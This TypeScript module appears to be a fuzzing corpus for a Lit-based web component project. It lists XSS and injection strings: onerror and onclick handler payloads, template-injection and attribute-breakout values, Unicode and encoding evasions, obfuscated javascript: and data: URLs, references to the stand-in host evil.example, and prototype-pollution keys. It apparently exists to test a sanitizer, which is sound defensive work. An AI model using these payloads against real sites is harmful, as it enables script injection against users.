/** What the public collections lack: what is aimed at Lit and at our own format, and what no page can hold. */
const RUN = 'alert(document.domain)';

export const own: readonly string[] = [
  // Markers of Lit, and what ends templates of other kinds.
  `<?lit$123456$?><img src=x onerror=${RUN}>`,
  `lit$123456$`,
  `<!--lit-part--><img src=x onerror=${RUN}><!--/lit-part-->`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{author}{0}<date>{date}</date><b>{count, plural, other {#}}</b>`,
  // Elements of ours, and what would end those around.
  `<care-article src="//evil.example/x.json"></care-article>`,
  `</article></care-article><img src=x onerror=${RUN}>`,
  `</title></textarea></style></script></noscript></template><img src=x onerror=${RUN}>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<b slot=heading>x</b><span is=script onpointerover=${RUN}>`,
  // Values that leave an attribute.
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus tabindex=0 x='`,
  `x" style="background:url(//evil.example/x)`,
  'red;background:url(//evil.example/x)',
  'url(//evil.example/x)',
  'var(--x)',
  // What HTML, JSON and JavaScript spell in more ways than one.
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `%3Cimg%20src%3Dx%20onerror%3D${RUN}%3E`,
  `\uFF1Cimg src=x onerror=${RUN}\uFF1E`,
  `</script><!--<script>${RUN}//-->\u2028${RUN}\u2029`,
  // NUL, lone surrogates, controls of direction, line ends.
  `<\0img src=x onerror=${RUN}>`,
  `<img\0src=x\0onerror=${RUN}>`,
  `a\uD800<img src=x onerror=${RUN}>\uDC00`,
  `\u202E<img src=x onerror=${RUN}>\u2066`,
  `a\r\nb\rc\n\n::error::d\u0085e\u001B[2Jf`,
  // CSL-JSON has markup of its own.
  `<i onclick=${RUN}>a</i> <span class="nocase" onclick=${RUN}>b</span> <sup>c</sup> <i>d`,
  // Names of every object, and of none.
  `__proto__`,
  `constructor`,
  `[object Object]`,
  // Schemes by all that browsers skip before and within them.
  ...[
    '\u001Fjavascript:',
    '\r\njavascript:',
    'java\tscr\nipt\r:',
    'javascript\t:',
    '\u00A0javascript:',
    '\u2028javascript:',
    '\uFEFFjavascript:',
    '\u200Bjavascript:',
    'java\0script:',
    'java%73cript:',
    'javascript://%0a',
    'javascript:/*https://a.example*/',
    'javascript:\u2028',
    'view-source:javascript:',
    'feed:javascript:',
    'jar:javascript:',
    'livescript:',
  ].map((scheme) => `${scheme}${RUN}`),
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `filesystem:https://clinic.example/temporary/x`,
  `ms-settings:`,
  `#javascript:${RUN}`,
  `mailto:a@b.example?body=<script>${RUN}</script>`,
  `sms:+1?body=${RUN}`,
];
